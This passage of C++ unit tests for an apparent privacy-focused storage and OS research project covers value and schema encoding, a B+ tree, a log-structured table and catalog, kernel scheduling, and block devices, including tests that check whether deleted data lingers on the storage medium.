  EXPECT_EQ(Value(std::int64_t{7}).type(), ValueType::kInt);
  EXPECT_EQ(*Value(std::int64_t{7}).AsInt(), 7);
  EXPECT_EQ(*Value(2.5).AsDouble(), 2.5);
  EXPECT_EQ(*Value(true).AsBool(), true);
  EXPECT_EQ(*Value(std::string("s")).AsString(), "s");
  EXPECT_EQ(*Value(Bytes{1, 2}).AsBytes(), (Bytes{1, 2}));
  // Wrong accessor fails.
  EXPECT_FALSE(Value(std::int64_t{7}).AsString().ok());
  EXPECT_FALSE(Value().AsInt().ok());
}

TEST(ValueTest, CodecRoundTrip) {
  const Value values[] = {Value(),       Value(std::int64_t{-5}),
                          Value(3.75),   Value(false),
                          Value(std::string("héllo")), Value(Bytes{9, 8, 7})};
  for (const Value& v : values) {
    ByteWriter w;
    v.Encode(w);
    ByteReader r(w.buffer());
    auto decoded = Value::Decode(r);
    ASSERT_TRUE(decoded.ok());
    EXPECT_EQ(*decoded, v);
  }
}

TEST(ValueTest, TotalOrder) {
  EXPECT_LT(Value(std::int64_t{1}), Value(std::int64_t{2}));
  EXPECT_LT(Value(std::string("a")), Value(std::string("b")));
  // Cross-type ordering is by type tag (null < int < ... < bytes).
  EXPECT_LT(Value(), Value(std::int64_t{0}));
  EXPECT_LT(Value(std::int64_t{99}), Value(std::string("")));
}

TEST(ValueTest, DisplayStrings) {
  EXPECT_EQ(Value().ToDisplayString(), "null");
  EXPECT_EQ(Value(std::int64_t{42}).ToDisplayString(), "42");
  EXPECT_EQ(Value(std::string("x")).ToDisplayString(), "\"x\"");
  EXPECT_EQ(Value(Bytes{0xAB}).ToDisplayString(), "0xab");
}

// ---- Schema --------------------------------------------------------------------

Schema UserSchema() {
  return Schema("user", {{"name", ValueType::kString, false},
                         {"age", ValueType::kInt, false},
                         {"bio", ValueType::kString, true}});
}

TEST(SchemaTest, ValidateRowChecksArityTypesNullability) {
  const Schema schema = UserSchema();
  Row good{Value(std::string("a")), Value(std::int64_t{30}), Value()};
  EXPECT_TRUE(schema.ValidateRow(good).ok());
  Row wrong_arity{Value(std::string("a"))};
  EXPECT_FALSE(schema.ValidateRow(wrong_arity).ok());
  Row wrong_type{Value(std::int64_t{1}), Value(std::int64_t{30}), Value()};
  EXPECT_FALSE(schema.ValidateRow(wrong_type).ok());
  Row null_in_required{Value(), Value(std::int64_t{30}), Value()};
  EXPECT_FALSE(schema.ValidateRow(null_in_required).ok());
}

TEST(SchemaTest, RowCodecRoundTrip) {
  const Schema schema = UserSchema();
  const Row row{Value(std::string("bob")), Value(std::int64_t{44}),
                Value(std::string("likes fishing"))};
  auto decoded = schema.DecodeRow(schema.EncodeRow(row));
  ASSERT_TRUE(decoded.ok());
  EXPECT_EQ(*decoded, row);
}

TEST(SchemaTest, SchemaCodecRoundTrip) {
  const Schema schema = UserSchema();
  ByteWriter w;
  schema.Encode(w);
  ByteReader r(w.buffer());
  auto decoded = Schema::Decode(r);
  ASSERT_TRUE(decoded.ok());
  EXPECT_EQ(*decoded, schema);
}

TEST(SchemaTest, FieldIndexLookup) {
  const Schema schema = UserSchema();
  EXPECT_EQ(*schema.FieldIndex("age"), 1u);
  EXPECT_FALSE(schema.FieldIndex("missing").ok());
  EXPECT_TRUE(schema.HasField("bio"));
}

// ---- BPlusTree -----------------------------------------------------------------

TEST(BTreeTest, BasicInsertFindErase) {
  BPlusTree<std::uint64_t, std::string, 8> tree;
  EXPECT_TRUE(tree.empty());
  EXPECT_TRUE(tree.Insert(5, "five"));
  EXPECT_TRUE(tree.Insert(3, "three"));
  EXPECT_FALSE(tree.Insert(5, "FIVE"));  // overwrite
  EXPECT_EQ(*tree.Find(5), "FIVE");
  EXPECT_EQ(*tree.Find(3), "three");
  EXPECT_EQ(tree.Find(99), nullptr);
  EXPECT_TRUE(tree.Erase(3));
  EXPECT_FALSE(tree.Erase(3));
  EXPECT_EQ(tree.size(), 1u);
  EXPECT_TRUE(tree.Validate());
}

TEST(BTreeTest, OrderedIteration) {
  BPlusTree<int, int, 4> tree;
  for (int k : {9, 1, 7, 3, 5, 2, 8, 4, 6, 0}) tree.Insert(k, k * 10);
  std::vector<int> keys;
  tree.ForEach([&](const int& k, const int&) {
    keys.push_back(k);
    return true;
  });
  EXPECT_EQ(keys, (std::vector<int>{0, 1, 2, 3, 4, 5, 6, 7, 8, 9}));
}

TEST(BTreeTest, RangeQuery) {
  BPlusTree<int, int, 4> tree;
  for (int k = 0; k < 100; ++k) tree.Insert(k, k);
  std::vector<int> keys;
  tree.ForEachInRange(10, 20, [&](const int& k, const int&) {
    keys.push_back(k);
    return true;
  });
  ASSERT_EQ(keys.size(), 11u);
  EXPECT_EQ(keys.front(), 10);
  EXPECT_EQ(keys.back(), 20);
}

TEST(BTreeTest, MinKey) {
  BPlusTree<int, int, 4> tree;
  EXPECT_FALSE(tree.MinKey().has_value());
  tree.Insert(42, 0);
  tree.Insert(7, 0);
  EXPECT_EQ(*tree.MinKey(), 7);
}

TEST(BTreeTest, SequentialInsertDeepTreeStaysValid) {
  BPlusTree<int, int, 4> tree;
  for (int k = 0; k < 2000; ++k) {
    tree.Insert(k, k);
    if (k % 97 == 0) ASSERT_TRUE(tree.Validate()) << k;
  }
  EXPECT_EQ(tree.size(), 2000u);
  EXPECT_TRUE(tree.Validate());
  for (int k = 0; k < 2000; ++k) ASSERT_NE(tree.Find(k), nullptr) << k;
}

TEST(BTreeTest, ReverseInsertThenDrainForward) {
  BPlusTree<int, int, 6> tree;
  for (int k = 999; k >= 0; --k) tree.Insert(k, k);
  EXPECT_TRUE(tree.Validate());
  for (int k = 0; k < 1000; ++k) {
    ASSERT_TRUE(tree.Erase(k)) << k;
    if (k % 53 == 0) ASSERT_TRUE(tree.Validate()) << k;
  }
  EXPECT_TRUE(tree.empty());
  EXPECT_TRUE(tree.Validate());
}

// Property sweep: random interleavings of insert/overwrite/erase checked
// against std::map, parameterized over tree order and seed.
class BTreePropertyTest
    : public ::testing::TestWithParam<std::tuple<int, std::uint64_t>> {};

template <std::size_t Order>
void RunRandomOps(std::uint64_t seed) {
  rgpdos::Rng rng(seed);
  BPlusTree<std::uint64_t, std::uint64_t, Order> tree;
  std::map<std::uint64_t, std::uint64_t> reference;
  const std::uint64_t key_space = 500;
  for (int i = 0; i < 5000; ++i) {
    const std::uint64_t key = rng.NextBelow(key_space);
    const double dice = rng.NextDouble();
    if (dice < 0.6) {
      const std::uint64_t value = rng.NextU64();
      const bool fresh = tree.Insert(key, value);
      const bool expected_fresh = reference.emplace(key, value).second;
      if (!expected_fresh) reference[key] = value;
      ASSERT_EQ(fresh, expected_fresh) << "op " << i;
    } else {
      const bool erased = tree.Erase(key);
      ASSERT_EQ(erased, reference.erase(key) > 0) << "op " << i;
    }
    if (i % 250 == 0) {
      ASSERT_TRUE(tree.Validate()) << "op " << i;
      ASSERT_EQ(tree.size(), reference.size());
    }
  }
  ASSERT_TRUE(tree.Validate());
  ASSERT_EQ(tree.size(), reference.size());
  // Final content equality, in order.
  auto it = reference.begin();
  tree.ForEach([&](const std::uint64_t& k, const std::uint64_t& v) {
    EXPECT_EQ(k, it->first);
    EXPECT_EQ(v, it->second);
    ++it;
    return true;
  });
  EXPECT_EQ(it, reference.end());
}

TEST_P(BTreePropertyTest, MatchesStdMapUnderRandomOps) {
  const auto [order, seed] = GetParam();
  switch (order) {
    case 4: RunRandomOps<4>(seed); break;
    case 8: RunRandomOps<8>(seed); break;
    case 64: RunRandomOps<64>(seed); break;
    default: FAIL();
  }
}

INSTANTIATE_TEST_SUITE_P(
    OrdersAndSeeds, BTreePropertyTest,
    ::testing::Combine(::testing::Values(4, 8, 64),
                       ::testing::Values(1u, 2u, 3u, 4u)),
    [](const auto& info) {
      return "order" + std::to_string(std::get<0>(info.param)) + "_seed" +
             std::to_string(std::get<1>(info.param));
    });

// ---- Table ----------------------------------------------------------------------

class TableTest : public ::testing::Test {
 protected:
  void SetUp() override {
    device_ = std::make_unique<blockdev::MemBlockDevice>(512, 4096);
    inodefs::InodeStore::Options options;
    options.inode_count = 64;
    options.journal_blocks = 64;
    auto store = inodefs::InodeStore::Format(device_.get(), options, &clock_);
    ASSERT_TRUE(store.ok());
    store_ = std::move(store).value();
    auto file = store_->AllocInode(inodefs::InodeKind::kFile);
    ASSERT_TRUE(file.ok());
    file_ = *file;
    auto table = Table::Create(store_.get(), file_, UserSchema());
    ASSERT_TRUE(table.ok());
    table_ = std::make_unique<Table>(std::move(table).value());
  }

  Row MakeRow(const std::string& name, std::int64_t age) {
    return Row{Value(name), Value(age), Value()};
  }

  SimClock clock_{0};
  std::unique_ptr<blockdev::MemBlockDevice> device_;
  std::unique_ptr<inodefs::InodeStore> store_;
  inodefs::InodeId file_ = inodefs::kInvalidInode;
  std::unique_ptr<Table> table_;
};

TEST_F(TableTest, InsertGetUpdateDelete) {
  auto id = table_->Insert(MakeRow("alice", 30));
  ASSERT_TRUE(id.ok());
  EXPECT_EQ(*table_->Get(*id), MakeRow("alice", 30));
  ASSERT_TRUE(table_->Update(*id, MakeRow("alice", 31)).ok());
  EXPECT_EQ(*table_->Get(*id), MakeRow("alice", 31));
  ASSERT_TRUE(table_->Delete(*id).ok());
  EXPECT_FALSE(table_->Get(*id).ok());
  EXPECT_EQ(table_->live_count(), 0u);
  EXPECT_EQ(table_->Update(*id, MakeRow("x", 1)).code(),
            StatusCode::kNotFound);
}

TEST_F(TableTest, InsertValidatesSchema) {
  EXPECT_FALSE(table_->Insert(Row{Value(std::int64_t{1})}).ok());
}

TEST_F(TableTest, ScanVisitsLiveRowsInOrder) {
  for (int i = 0; i < 20; ++i) {
    ASSERT_TRUE(table_->Insert(MakeRow("u" + std::to_string(i), i)).ok());
  }
  ASSERT_TRUE(table_->Delete(5).ok());
  std::vector<RowId> seen;
  ASSERT_TRUE(table_->Scan([&](RowId id, const Row&) {
    seen.push_back(id);
    return true;
  }).ok());
  EXPECT_EQ(seen.size(), 19u);
  EXPECT_TRUE(std::is_sorted(seen.begin(), seen.end()));
}

TEST_F(TableTest, ReopenReplaysLog) {
  auto a = table_->Insert(MakeRow("a", 1));
  auto b = table_->Insert(MakeRow("b", 2));
  ASSERT_TRUE(a.ok() && b.ok());
  ASSERT_TRUE(table_->Update(*a, MakeRow("a2", 11)).ok());
  ASSERT_TRUE(table_->Delete(*b).ok());

  auto reopened = Table::Open(store_.get(), file_, UserSchema());
  ASSERT_TRUE(reopened.ok());
  EXPECT_EQ(reopened->live_count(), 1u);
  EXPECT_EQ(*reopened->Get(*a), MakeRow("a2", 11));
  EXPECT_FALSE(reopened->Get(*b).ok());
  // New inserts continue after the highest historical id.
  auto c = reopened->Insert(MakeRow("c", 3));
  ASSERT_TRUE(c.ok());
  EXPECT_GT(*c, *b);
}

TEST_F(TableTest, CompactShrinksLogAndPreservesData) {
  auto a = table_->Insert(MakeRow("keep", 1));
  ASSERT_TRUE(a.ok());
  for (int i = 0; i < 10; ++i) {
    auto v = table_->Insert(MakeRow("victim", i));
    ASSERT_TRUE(v.ok());
    ASSERT_TRUE(table_->Delete(*v).ok());
  }
  const std::uint64_t before = table_->log_bytes();
  ASSERT_TRUE(table_->Compact().ok());
  EXPECT_LT(table_->log_bytes(), before);
  EXPECT_EQ(*table_->Get(*a), MakeRow("keep", 1));
  EXPECT_EQ(table_->live_count(), 1u);
}

TEST_F(TableTest, DeleteDoesNotScrubTheLog) {
  // The baseline-leak primitive: tombstoned rows linger in the log file.
  auto id = table_->Insert(MakeRow("LINGERING_ROW_SECRET", 1));
  ASSERT_TRUE(id.ok());
  ASSERT_TRUE(table_->Delete(*id).ok());
  EXPECT_GT(blockdev::CountBlocksContaining(*device_,
                                            ToBytes("LINGERING_ROW_SECRET")),
            0u);
}

// ---- Catalog ----------------------------------------------------------------------

TEST(CatalogTest, CreateOpenDrop) {
  SimClock clock(0);
  blockdev::MemBlockDevice device(512, 4096);
  inodefs::InodeStore::Options options;
  options.inode_count = 64;
  options.journal_blocks = 64;
  auto store = inodefs::InodeStore::Format(&device, options, &clock);
  ASSERT_TRUE(store.ok());
  auto fs = inodefs::FileSystem::Create(store->get());
  ASSERT_TRUE(fs.ok());

  {
    auto catalog = Catalog::Create(&*fs, "/db");
    ASSERT_TRUE(catalog.ok()) << catalog.status().ToString();
    auto table = catalog->CreateTable(UserSchema());
    ASSERT_TRUE(table.ok());
    ASSERT_TRUE(
        (*table)->Insert(Row{Value(std::string("x")), Value(std::int64_t{1}),
                             Value()}).ok());
    EXPECT_FALSE(catalog->CreateTable(UserSchema()).ok());  // duplicate
    EXPECT_EQ(catalog->TableNames(), std::vector<std::string>{"user"});
  }
  {
    auto catalog = Catalog::Open(&*fs, "/db");
    ASSERT_TRUE(catalog.ok()) << catalog.status().ToString();
    auto table = catalog->GetTable("user");
    ASSERT_TRUE(table.ok());
    EXPECT_EQ((*table)->live_count(), 1u);
    ASSERT_TRUE(catalog->DropTable("user").ok());
    EXPECT_FALSE(catalog->GetTable("user").ok());
    EXPECT_EQ(catalog->DropTable("user").code(), StatusCode::kNotFound);
  }
}

}  // namespace
}  // namespace rgpdos::db
