// Purpose-kernel model tests: channels, job kernels, IO driver kernels,
// and the Machine's proportional + work-conserving scheduler with
// dynamic repartitioning and memory quotas.
#include <gtest/gtest.h>

#include "blockdev/block_device.hpp"
#include "kernel/io_driver_kernel.hpp"
#include "kernel/machine.hpp"

namespace rgpdos::kernel {
namespace {

TEST(ChannelTest, FifoAndCapacity) {
  Channel<int> channel(2);
  EXPECT_TRUE(channel.Push(1).ok());
  EXPECT_TRUE(channel.Push(2).ok());
  EXPECT_EQ(channel.Push(3).code(), StatusCode::kResourceExhausted);
  EXPECT_EQ(*channel.Pop(), 1);
  EXPECT_EQ(*channel.Pop(), 2);
  EXPECT_FALSE(channel.Pop().has_value());
  EXPECT_EQ(channel.total_pushed(), 2u);
}

TEST(JobQueueKernelTest, RunsJobsWithinBudget) {
  JobQueueKernel kernel("npd", KernelKind::kGeneralPurpose);
  int completed = 0;
  for (int i = 0; i < 5; ++i) {
    ASSERT_TRUE(
        kernel.Submit({10, [&completed] { ++completed; }}).ok());
  }
  EXPECT_EQ(kernel.Backlog(), 50u);
  EXPECT_EQ(kernel.Run(25), 25u);  // finishes 2 jobs, half of the third
  EXPECT_EQ(completed, 2);
  EXPECT_EQ(kernel.Run(100), 25u);  // finishes the rest
  EXPECT_EQ(completed, 5);
  EXPECT_EQ(kernel.completed_jobs(), 5u);
  EXPECT_EQ(kernel.Backlog(), 0u);
  EXPECT_EQ(kernel.units_consumed(), 50u);
}

TEST(JobQueueKernelTest, ZeroCostJobsCountAsOne) {
  JobQueueKernel kernel("k", KernelKind::kRgpd);
  ASSERT_TRUE(kernel.Submit({0, nullptr}).ok());
  EXPECT_EQ(kernel.Run(10), 1u);
  EXPECT_EQ(kernel.completed_jobs(), 1u);
}

TEST(SubKernelTest, MemoryQuota) {
  JobQueueKernel kernel("k", KernelKind::kRgpd);
  kernel.SetMemoryQuota(100);
  EXPECT_TRUE(kernel.ChargeMemory(60).ok());
  EXPECT_TRUE(kernel.ChargeMemory(40).ok());
  EXPECT_EQ(kernel.ChargeMemory(1).code(), StatusCode::kResourceExhausted);
  kernel.ReleaseMemory(50);
  EXPECT_TRUE(kernel.ChargeMemory(50).ok());
  kernel.ReleaseMemory(10'000);  // over-release clamps to zero
  EXPECT_EQ(kernel.memory_used(), 0u);
}

TEST(IoDriverKernelTest, ServesBlockRequestsOverChannels) {
  blockdev::MemBlockDevice device(512, 16);
  IoDriverKernel kernel("nvme0", &device, /*cost_per_request=*/2);

  BlockRequest write;
  write.kind = BlockRequest::Kind::kWrite;
  write.block = 3;
  write.data = Bytes(512, 0x5A);
  write.tag = 1;
  ASSERT_TRUE(kernel.requests().Push(std::move(write)).ok());
  BlockRequest read;
  read.kind = BlockRequest::Kind::kRead;
  read.block = 3;
  read.tag = 2;
  ASSERT_TRUE(kernel.requests().Push(std::move(read)).ok());

  // Budget of 2 serves exactly one request.
  EXPECT_EQ(kernel.Run(2), 2u);
  EXPECT_EQ(kernel.served_requests(), 1u);
  EXPECT_EQ(kernel.Run(10), 2u);
  EXPECT_EQ(kernel.served_requests(), 2u);

  auto r1 = kernel.responses().Pop();
  auto r2 = kernel.responses().Pop();
  ASSERT_TRUE(r1.has_value() && r2.has_value());
  EXPECT_TRUE(r1->status.ok());
  EXPECT_EQ(r2->tag, 2u);
  EXPECT_EQ(r2->data, Bytes(512, 0x5A));
}

TEST(IoDriverKernelTest, ErrorsAreReportedInResponses) {
  blockdev::MemBlockDevice device(512, 4);
  IoDriverKernel kernel("nvme0", &device);
  BlockRequest bad;
  bad.kind = BlockRequest::Kind::kRead;
  bad.block = 99;  // out of range
  bad.tag = 7;
  ASSERT_TRUE(kernel.requests().Push(std::move(bad)).ok());
  kernel.Run(10);
  auto response = kernel.responses().Pop();
  ASSERT_TRUE(response.has_value());
  EXPECT_EQ(response->status.code(), StatusCode::kOutOfRange);
}

TEST(MachineTest, ProportionalSharing) {
  Machine machine;
  auto* big = static_cast<JobQueueKernel*>(machine.AddKernel(
      std::make_unique<JobQueueKernel>("big", KernelKind::kRgpd), 3));
  auto* small = static_cast<JobQueueKernel*>(machine.AddKernel(
      std::make_unique<JobQueueKernel>("small", KernelKind::kGeneralPurpose),
      1));
  for (int i = 0; i < 1000; ++i) {
    ASSERT_TRUE(big->Submit({1, nullptr}).ok());
    ASSERT_TRUE(small->Submit({1, nullptr}).ok());
  }
  machine.Tick(100);
  // 3:1 split of the 100-unit budget.
  EXPECT_EQ(big->units_consumed(), 75u);
  EXPECT_EQ(small->units_consumed(), 25u);
}

TEST(MachineTest, WorkConservingSlackRedistribution) {
  Machine machine;
  auto* idle = static_cast<JobQueueKernel*>(machine.AddKernel(
      std::make_unique<JobQueueKernel>("idle", KernelKind::kGeneralPurpose),
      1));
  auto* busy = static_cast<JobQueueKernel*>(machine.AddKernel(
      std::make_unique<JobQueueKernel>("busy", KernelKind::kRgpd), 1));
  for (int i = 0; i < 1000; ++i) ASSERT_TRUE(busy->Submit({1, nullptr}).ok());
  machine.Tick(100);
  // The idle kernel's 50 units flow to the busy one.
  EXPECT_EQ(busy->units_consumed(), 100u);
  EXPECT_EQ(idle->units_consumed(), 0u);
}

TEST(MachineTest, DynamicRepartitioning) {
  Machine machine;
  auto* a = static_cast<JobQueueKernel*>(machine.AddKernel(
      std::make_unique<JobQueueKernel>("a", KernelKind::kRgpd), 1));
  auto* b = static_cast<JobQueueKernel*>(machine.AddKernel(
      std::make_unique<JobQueueKernel>("b", KernelKind::kGeneralPurpose),
      1));
  for (int i = 0; i < 1000; ++i) {
    ASSERT_TRUE(a->Submit({1, nullptr}).ok());
    ASSERT_TRUE(b->Submit({1, nullptr}).ok());
  }
  machine.Tick(100);
  EXPECT_EQ(a->units_consumed(), 50u);
  ASSERT_TRUE(machine.Repartition("a", 4).ok());
  machine.Tick(100);
  EXPECT_EQ(a->units_consumed(), 50u + 80u);
  EXPECT_EQ(b->units_consumed(), 50u + 20u);
  EXPECT_EQ(machine.Repartition("nope", 1).code(), StatusCode::kNotFound);
}

TEST(MachineTest, MemoryQuotasFollowShares) {
  Machine machine(1000);
  auto* a = machine.AddKernel(
      std::make_unique<JobQueueKernel>("a", KernelKind::kRgpd), 3);
  auto* b = machine.AddKernel(
      std::make_unique<JobQueueKernel>("b", KernelKind::kGeneralPurpose), 1);
  EXPECT_EQ(a->memory_quota(), 750u);
  EXPECT_EQ(b->memory_quota(), 250u);
  ASSERT_TRUE(machine.Repartition("a", 1).ok());
  EXPECT_EQ(a->memory_quota(), 500u);
  EXPECT_EQ(b->memory_quota(), 500u);
}

TEST(MachineTest, FindByName) {
  Machine machine;
  machine.AddKernel(
      std::make_unique<JobQueueKernel>("rgpd", KernelKind::kRgpd), 1);
  EXPECT_NE(machine.Find("rgpd"), nullptr);
  EXPECT_EQ(machine.Find("rgpd")->kind(), KernelKind::kRgpd);
  EXPECT_EQ(machine.Find("nope"), nullptr);
  EXPECT_EQ(machine.kernel_count(), 1u);
}

TEST(MachineTest, PurposeKernelTopologyEndToEnd) {
  // The paper's full topology: IO driver kernels + general purpose +
  // rgpd, with PD traffic flowing only through the IO kernels.
  blockdev::MemBlockDevice pd_device(512, 64);
  Machine machine(1 << 20);
  auto* io = static_cast<IoDriverKernel*>(machine.AddKernel(
      std::make_unique<IoDriverKernel>("io.nvme", &pd_device), 1));
  auto* npd = static_cast<JobQueueKernel*>(machine.AddKernel(
      std::make_unique<JobQueueKernel>("general", KernelKind::kGeneralPurpose),
      1));
  auto* rgpd = static_cast<JobQueueKernel*>(machine.AddKernel(
      std::make_unique<JobQueueKernel>("rgpd", KernelKind::kRgpd), 2));

  // rgpd submits a PD block write via the IO kernel's channel.
  BlockRequest write;
  write.kind = BlockRequest::Kind::kWrite;
  write.block = 1;
  write.data = Bytes(512, 0x7D);
  write.tag = 42;
  ASSERT_TRUE(io->requests().Push(std::move(write)).ok());
  ASSERT_TRUE(rgpd->Submit({5, nullptr}).ok());
  ASSERT_TRUE(npd->Submit({5, nullptr}).ok());

  for (int tick = 0; tick < 10; ++tick) machine.Tick(10);
  EXPECT_EQ(io->served_requests(), 1u);
  EXPECT_EQ(rgpd->completed_jobs(), 1u);
  EXPECT_EQ(npd->completed_jobs(), 1u);
  auto response = io->responses().Pop();
  ASSERT_TRUE(response.has_value());
  EXPECT_EQ(response->tag, 42u);
}

}  // namespace
}  // namespace rgpdos::kernel
