// Block-device substrate tests: bounds, stats, raw-medium scans, the
// latency cost model, the traffic recorder, and the file-backed device.
#include <gtest/gtest.h>

#include <cstdio>

#include "blockdev/block_device.hpp"
#include "blockdev/file_block_device.hpp"
#include "blockdev/latency_model.hpp"
#include "blockdev/traffic_recorder.hpp"

namespace rgpdos::blockdev {
namespace {

Bytes BlockOf(std::uint32_t size, std::uint8_t fill) {
  return Bytes(size, fill);
}

TEST(MemBlockDeviceTest, ReadWriteRoundTrip) {
  MemBlockDevice device(512, 8);
  EXPECT_EQ(device.capacity_bytes(), 512u * 8);
  ASSERT_TRUE(device.WriteBlock(3, BlockOf(512, 0xAB)).ok());
  Bytes out;
  ASSERT_TRUE(device.ReadBlock(3, out).ok());
  EXPECT_EQ(out, BlockOf(512, 0xAB));
  // Fresh blocks read as zeros.
  ASSERT_TRUE(device.ReadBlock(0, out).ok());
  EXPECT_EQ(out, BlockOf(512, 0x00));
}

TEST(MemBlockDeviceTest, BoundsAndSizeChecks) {
  MemBlockDevice device(512, 4);
  Bytes out;
  EXPECT_EQ(device.ReadBlock(4, out).code(), StatusCode::kOutOfRange);
  EXPECT_EQ(device.WriteBlock(4, BlockOf(512, 0)).code(),
            StatusCode::kOutOfRange);
  EXPECT_EQ(device.WriteBlock(0, BlockOf(100, 0)).code(),
            StatusCode::kInvalidArgument);
}

TEST(MemBlockDeviceTest, StatsAccumulate) {
  MemBlockDevice device(512, 4);
  Bytes out;
  ASSERT_TRUE(device.WriteBlock(0, BlockOf(512, 1)).ok());
  ASSERT_TRUE(device.ReadBlock(0, out).ok());
  ASSERT_TRUE(device.ReadBlock(1, out).ok());
  ASSERT_TRUE(device.Flush().ok());
  EXPECT_EQ(device.stats().writes, 1u);
  EXPECT_EQ(device.stats().reads, 2u);
  EXPECT_EQ(device.stats().bytes_written, 512u);
  EXPECT_EQ(device.stats().bytes_read, 1024u);
  EXPECT_EQ(device.stats().flushes, 1u);
}

TEST(MemBlockDeviceTest, CountBlocksContainingFindsPattern) {
  MemBlockDevice device(512, 4);
  Bytes block = BlockOf(512, 0);
  const Bytes needle = ToBytes("SECRET");
  std::copy(needle.begin(), needle.end(), block.begin() + 100);
  ASSERT_TRUE(device.WriteBlock(1, block).ok());
  ASSERT_TRUE(device.WriteBlock(3, block).ok());
  EXPECT_EQ(CountBlocksContaining(device, needle), 2u);
  EXPECT_EQ(CountBlocksContaining(device, ToBytes("ABSENT")), 0u);
}

TEST(MemBlockDeviceTest, CountBlocksContainingFindsStraddlingPattern) {
  MemBlockDevice device(512, 4);
  const Bytes needle = ToBytes("STRADDLE");
  // Split the needle across the block 0 / block 1 boundary.
  Bytes b0 = BlockOf(512, 0);
  Bytes b1 = BlockOf(512, 0);
  std::copy(needle.begin(), needle.begin() + 4, b0.end() - 4);
  std::copy(needle.begin() + 4, needle.end(), b1.begin());
  ASSERT_TRUE(device.WriteBlock(0, b0).ok());
  ASSERT_TRUE(device.WriteBlock(1, b1).ok());
  EXPECT_GE(CountBlocksContaining(device, needle), 1u);
}

TEST(LatencyModelTest, AccumulatesSimulatedTime) {
  auto inner = std::make_unique<MemBlockDevice>(512, 8);
  LatencyModelDevice device(std::move(inner), LatencyProfile::Nvme());
  Bytes out;
  ASSERT_TRUE(device.WriteBlock(0, BlockOf(512, 1)).ok());
  ASSERT_TRUE(device.ReadBlock(0, out).ok());
  ASSERT_TRUE(device.Flush().ok());
  EXPECT_EQ(device.simulated_ns(), 20'000u + 10'000u + 50'000u);
  device.ResetSimulatedTime();
  EXPECT_EQ(device.simulated_ns(), 0u);
}

TEST(LatencyModelTest, HddIsSlowerThanNvme) {
  EXPECT_GT(LatencyProfile::Hdd().read_ns, LatencyProfile::Nvme().read_ns);
  EXPECT_GT(LatencyProfile::Hdd().write_ns, LatencyProfile::Nvme().write_ns);
}

TEST(TrafficRecorderTest, RemembersOverwrittenHistory) {
  auto inner = std::make_unique<MemBlockDevice>(512, 8);
  TrafficRecorder recorder(std::move(inner));
  const Bytes secret = ToBytes("TOPSECRET");
  Bytes block = BlockOf(512, 0);
  std::copy(secret.begin(), secret.end(), block.begin());
  ASSERT_TRUE(recorder.WriteBlock(0, block).ok());
  // Overwrite in place: the current medium no longer holds the secret...
  ASSERT_TRUE(recorder.WriteBlock(0, BlockOf(512, 0)).ok());
  EXPECT_EQ(CountBlocksContaining(recorder, secret), 0u);
  // ...but the write history still does: the Fig-2 observation.
  EXPECT_EQ(recorder.CountHistoricalWritesContaining(secret), 1u);
  EXPECT_EQ(recorder.history_bytes(), 1024u);
  recorder.ClearHistory();
  EXPECT_EQ(recorder.CountHistoricalWritesContaining(secret), 0u);
}

TEST(FileBlockDeviceTest, PersistsAcrossReopen) {
  const std::string path = ::testing::TempDir() + "/rgpd_fbd_test.img";
  std::remove(path.c_str());
  {
    auto device = FileBlockDevice::Open(path, 512, 16);
    ASSERT_TRUE(device.ok()) << device.status().ToString();
    ASSERT_TRUE((*device)->WriteBlock(5, BlockOf(512, 0x7E)).ok());
    ASSERT_TRUE((*device)->Flush().ok());
  }
  {
    auto device = FileBlockDevice::Open(path, 512, 16);
    ASSERT_TRUE(device.ok());
    Bytes out;
    ASSERT_TRUE((*device)->ReadBlock(5, out).ok());
    EXPECT_EQ(out, BlockOf(512, 0x7E));
    // Unwritten sparse block reads as zeros.
    ASSERT_TRUE((*device)->ReadBlock(9, out).ok());
    EXPECT_EQ(out, BlockOf(512, 0x00));
  }
  std::remove(path.c_str());
}

}  // namespace
}  // namespace rgpdos::blockdev
