// Block-device substrate tests: bounds, stats, raw-medium scans, the
// latency cost model, the traffic recorder, and the file-backed device.
#include <gtest/gtest.h>

#include <cstdio>

#include "blockdev/async.hpp"
#include "blockdev/block_device.hpp"
#include "blockdev/fault_injection.hpp"
#include "blockdev/file_block_device.hpp"
#include "blockdev/latency_model.hpp"
#include "blockdev/traffic_recorder.hpp"

namespace rgpdos::blockdev {
namespace {

Bytes BlockOf(std::uint32_t size, std::uint8_t fill) {
  return Bytes(size, fill);
}

TEST(MemBlockDeviceTest, ReadWriteRoundTrip) {
  MemBlockDevice device(512, 8);
  EXPECT_EQ(device.capacity_bytes(), 512u * 8);
  ASSERT_TRUE(device.WriteBlock(3, BlockOf(512, 0xAB)).ok());
  Bytes out;
  ASSERT_TRUE(device.ReadBlock(3, out).ok());
  EXPECT_EQ(out, BlockOf(512, 0xAB));
  // Fresh blocks read as zeros.
  ASSERT_TRUE(device.ReadBlock(0, out).ok());
  EXPECT_EQ(out, BlockOf(512, 0x00));
}

TEST(MemBlockDeviceTest, BoundsAndSizeChecks) {
  MemBlockDevice device(512, 4);
  Bytes out;
  EXPECT_EQ(device.ReadBlock(4, out).code(), StatusCode::kOutOfRange);
  EXPECT_EQ(device.WriteBlock(4, BlockOf(512, 0)).code(),
            StatusCode::kOutOfRange);
  EXPECT_EQ(device.WriteBlock(0, BlockOf(100, 0)).code(),
            StatusCode::kInvalidArgument);
}

TEST(MemBlockDeviceTest, StatsAccumulate) {
  MemBlockDevice device(512, 4);
  Bytes out;
  ASSERT_TRUE(device.WriteBlock(0, BlockOf(512, 1)).ok());
  ASSERT_TRUE(device.ReadBlock(0, out).ok());
  ASSERT_TRUE(device.ReadBlock(1, out).ok());
  ASSERT_TRUE(device.Flush().ok());
  EXPECT_EQ(device.stats().writes, 1u);
  EXPECT_EQ(device.stats().reads, 2u);
  EXPECT_EQ(device.stats().bytes_written, 512u);
  EXPECT_EQ(device.stats().bytes_read, 1024u);
  EXPECT_EQ(device.stats().flushes, 1u);
}

TEST(MemBlockDeviceTest, CountBlocksContainingFindsPattern) {
  MemBlockDevice device(512, 4);
  Bytes block = BlockOf(512, 0);
  const Bytes needle = ToBytes("SECRET");
  std::copy(needle.begin(), needle.end(), block.begin() + 100);
  ASSERT_TRUE(device.WriteBlock(1, block).ok());
  ASSERT_TRUE(device.WriteBlock(3, block).ok());
  EXPECT_EQ(CountBlocksContaining(device, needle), 2u);
  EXPECT_EQ(CountBlocksContaining(device, ToBytes("ABSENT")), 0u);
}

TEST(MemBlockDeviceTest, CountBlocksContainingFindsStraddlingPattern) {
  MemBlockDevice device(512, 4);
  const Bytes needle = ToBytes("STRADDLE");
  // Split the needle across the block 0 / block 1 boundary.
